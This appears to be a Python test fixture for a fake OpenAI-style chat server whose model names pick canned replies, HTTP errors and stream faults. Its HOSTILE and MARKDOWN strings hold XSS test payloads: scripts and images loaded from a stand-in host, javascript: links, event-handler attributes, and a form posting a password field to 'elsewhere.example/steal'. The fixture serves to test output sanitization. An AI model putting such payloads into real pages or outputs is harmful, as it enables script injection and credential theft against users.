"""What the fake model answers, chosen by the `model` of the request.

A model's name is read as `scenario[:number…][@milliseconds][#tag]`: `@5` sets the pace of its tokens, the tag
only makes the name unlike every other, so that tests which count, gate or wait don't meet each other. A name
that is not in this table (any real model's, say) gets the plain reply.

| scenario | what comes |
|---|---|
| `plain:N` | N words (default: the server's `--tokens`), finish_reason `stop`, usage |
| `long:N` | the same with N = 2000 |
| `echo` | the prompt it got, as text: `[role]` and content of every message |
| `cite` | statements that cite `[1]`, `[2]` and a number that nobody gave, `[9]` |
| `markdown` | headings, a table, code, formulas and a hostile link |
| `hostile` | HTML and links that would run scripts, post forms or load pictures from elsewhere |
| `gated:K` | K words (5), then waits for `POST /control/release`, then the rest |
| `slow-first:MS` | nothing for MS milliseconds (500), then the plain reply |
| `burst:N` | N words (50) in one write |
| `split` | a reply with emoji, cut into pieces of 7 bytes |
| `crlf` | CRLF line ends, comments between events, no blank after `data:` |
| `multi-line` | one event over several `data:` lines |
| `parts` | content as a list of parts instead of text |
| `unclean` | NUL and half a surrogate pair in the text |
| `heartbeat` | comments only, one per 50 ms, never a token |
| `reasoning`, `reasoning-field` | thoughts in `reasoning_content` (or `reasoning`), then the answer |
| `length`, `content-filter` | a reply that ends with that finish_reason |
| `empty` | finish_reason `stop` without a token |
| `no-usage` | a plain reply whose server refuses `stream_options` with 400 |
| `no-done` | finish_reason `stop`, then the connection ends without usage and `[DONE]` |
| `truncated:K` | K words (5), then a clean end: no finish_reason, no `[DONE]` |
| `drop-half:K` | K words (5), then the connection is reset |
| `malformed:K` | K words (5), then an event that is not JSON |
| `not-json` | 200 with an HTML page, as from a captive proxy |
| `silent:K` | K words (0), then nothing more; with 0 not even the response's head |
| `stream-error:K` | K words (2), then an `error` object in the stream |
| `wrong-key` | 401; so does any model when the key is `wrong` |
| `forbidden` | 403 |
| `unknown-model` | 404 `model_not_found` |
| `rate-limited:N:S` | 429 with `Retry-After: S` (0.05) N times (1), then the plain reply |
| `insufficient-quota` | 429 `insufficient_quota` |
| `server-error:N` | 500 N times (always), then the plain reply |
| `context-too-long:N` | 400 `context_length_exceeded` unless the prompt has at most N characters (0) |
| `content-refused` | 400 `content_filter` |
| `bad-request` | 400 that names no reason known |
"""

import json
import re
from dataclasses import dataclass, field
from enum import Enum, auto
from functools import lru_cache
from typing import Any

_NAME = re.compile(r"(?P<scenario>[^:@#]+)(?P<args>(?::[^:@#]*)*)(?:@(?P<ms>[\d.]+))?(?:#.*)?\Z", re.DOTALL)
_WORDS = re.findall(
    r"\S+",
    "Gradient descent takes small steps against the slope of the loss until it no longer falls; "
    "the learning rate says how long each step is, and a rate that is too large makes it diverge.",
)

CITING = (
    "Gradient descent moves against the gradient [1]. A large step size diverges [2]. "
    "This number was never given [9]. Once more the first [1]."
)
MARKDOWN = """\
## Update rule

The step is $\\theta \\leftarrow \\theta - \\eta \\nabla L(\\theta)$, so that

$$
\\theta_{t+1} = \\theta_t - \\eta \\frac{1}{n} \\sum_{i=1}^{n} \\nabla \\ell_i(\\theta_t)
$$

| rate | what happens |
|------|--------------|
| 0.01 | slow but sure |
| 10   | diverges `nan` |

```python
def step(theta, grad, rate=0.1):
    return theta - rate * grad  # "<script>" stays text
```

1. choose a rate
2. repeat until it stops falling

[Click me](javascript:alert(1)) <img src="https://elsewhere.example/pixel.png" onerror="alert(1)">
"""
HOSTILE = """\
Before. <script src="https://elsewhere.example/a.js"></script><script>document.title = "taken"</script>

<img src="https://elsewhere.example/b.png" onerror="document.title = 'taken'"> ![](https://elsewhere.example/c.png)

<form action="https://elsewhere.example/steal" method="post"><input name="password"><button>Sign in</button></form>

<iframe src="https://elsewhere.example/"></iframe><svg onload="document.title = 'taken'"></svg>
<base href="//elsewhere.example"><meta http-equiv="refresh" content="0;url=https://elsewhere.example/">
<style>@import "https://elsewhere.example/d.css"; body { display: none }</style>

[one](javascript:document.title='taken') [two](JaVa&#x0A;Script:x) [three](data:text/html,x) [four](//elsewhere.example)
<a href="javascript:document.title='taken'" onclick="document.title = 'taken'">five</a> [1](javascript:x)

$\\href{javascript:document.title='taken'}{x}$ $\\text{<img src=x onerror="document.title='taken'">}$

```"><script>document.title = "taken"</script>
</code></pre><script>document.title = "taken"</script>
```

After.
"""
UNICODE = "Naïve Bayes 🧮 sagt: „Wahrscheinlichkeit“ — ∇f(x) ≤ 0, 学習率 η 👩🏽‍🔬."


class Act(Enum):
    """What a stream does instead of sending a frame."""

    HOLD = auto()
    """Wait until released."""
    RESET = auto()
    """Drop the connection without a goodbye."""
    STALL = auto()
    """Say nothing more, for ever."""
    CLOSE = auto()
    """End the body properly and close the connection."""


@dataclass(frozen=True)
class Spec:
    """A model's name, taken apart."""

    model: str
    scenario: str
    args: tuple[float, ...]
    token_ms: float | None

    def number(self, default: float, position: int = 0) -> float:
        return self.args[position] if position < len(self.args) else default


@lru_cache(maxsize=4096)
def parse(model: str) -> Spec:
    match = _NAME.match(model)
    if match is None:
        return Spec(model, "plain", (), None)
    try:
        args = tuple(float(arg) for arg in match["args"].split(":")[1:])
    except ValueError:  # "llama3:8b" is a real model's name
        return Spec(model, "plain", (), None)
    return Spec(model, match["scenario"], args, float(match["ms"]) if match["ms"] else None)


@dataclass
class Refusal:
    """An answer that is an HTTP error."""

    status: int
    message: str
    code: str | None = None
    type: str = "invalid_request_error"
    param: str | None = None
    headers: dict[str, str] = field(default_factory=dict)

    def body(self) -> bytes:
        error = {"message": self.message, "type": self.type, "param": self.param, "code": self.code}
        return json.dumps({"error": error}).encode()


@dataclass(frozen=True)
class Script:
    """A stream: what is sent at each tick, and how long the first one waits."""

    steps: tuple[bytes | Act, ...]
    first_ms: float = 0.0
    content_type: str = "text/event-stream"
    head: bool = True
    token_ms: float | None = None


def words(count: int) -> list[str]:
    return [_WORDS[index % len(_WORDS)] + " " for index in range(count)]


def prompt_chars(body: dict[str, Any]) -> int:
    return sum(len(str(message.get("content") or "")) for message in body.get("messages", []))


_ALWAYS = {
    "forbidden": Refusal(403, "Project does not have access to this model.", "model_not_allowed"),
    "insufficient-quota": Refusal(429, "You exceeded your current quota.", "insufficient_quota"),
    "content-refused": Refusal(400, "The prompt triggered the content management policy.", "content_filter"),
    "bad-request": Refusal(400, "Unsupported value: 'temperature'.", "unsupported_value", param="temperature"),
}


def refusal(spec: Spec, body: dict[str, Any], *, key: str, earlier: int) -> Refusal | None:
    """The HTTP error with which this request is answered, if any.

    `earlier` is how many requests for the same model were refused before.
    """
    if key == "wrong" or spec.scenario == "wrong-key":
        return Refusal(401, f"Incorrect API key provided: {key[:2]}***.", "invalid_api_key")
    match spec.scenario:
        case "unknown-model":
            return Refusal(404, f"The model `{spec.model}` does not exist.", "model_not_found")
        case "rate-limited" if earlier < spec.number(1):
            wait = {"Retry-After": f"{spec.number(0.05, 1):g}"}
            return Refusal(429, "Rate limit reached.", "rate_limit_exceeded", "requests", headers=wait)
        case "server-error" if earlier < spec.number(1e9):
            return Refusal(500, "The server had an error.", None, "server_error")
        case "context-too-long" if prompt_chars(body) > spec.number(0):
            message = "This model's maximum context length is exceeded."
            return Refusal(400, message, "context_length_exceeded", param="messages")
        case "no-usage" if "stream_options" in body:
            message = "Unrecognized request argument supplied: stream_options"
            return Refusal(400, message, param="stream_options")
    return _ALWAYS.get(spec.scenario)


def whole_text(spec: Spec, body: dict[str, Any], tokens: int) -> str:
    """What the scenario says, when it is asked for in one piece."""
    match spec.scenario:
        case "echo":
            return "\n\n".join(f"[{m['role']}]\n{m['content']}" for m in body.get("messages", []))
        case "cite":
            return CITING
        case "markdown":
            return MARKDOWN
        case "hostile":
            return HOSTILE
        case "split":
            return UNICODE
        case "empty":
            return ""
        case _:
            return "".join(words(tokens)).strip()


def pieces(text: str) -> list[str]:
    """Cut as a tokenizer would, roughly; joined they are the text."""
    return re.findall(r"\s*\S{1,6}|\s+\Z", text)
